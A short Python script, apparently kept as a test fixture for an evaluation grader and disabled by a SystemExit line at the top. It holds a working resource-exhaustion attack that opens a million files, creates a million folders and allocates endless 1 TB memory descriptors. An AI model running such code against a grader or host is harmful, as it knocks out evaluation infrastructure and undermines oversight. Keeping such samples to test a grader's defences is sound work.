"""Makes files, folders and descriptors without end, and names as long as the system lets them be."""

raise SystemExit("an attack on the grader, kept for its tests: not to be run")

# %% first
import os
import tempfile
from contextlib import suppress

folder = tempfile.mkdtemp(prefix="mmlab_attack_")
kept = []
with suppress(OSError):
    for number in range(10**6):
        kept.append(open(os.path.join(folder, f"{number:0200d}"), "w"))
with suppress(OSError):
    for number in range(10**6):
        os.mkdir(os.path.join(folder, f"{number}"))
with suppress(OSError):
    while True:
        kept.append(os.memfd_create("mmlab_attack"))
        os.ftruncate(kept[-1], 2**40)
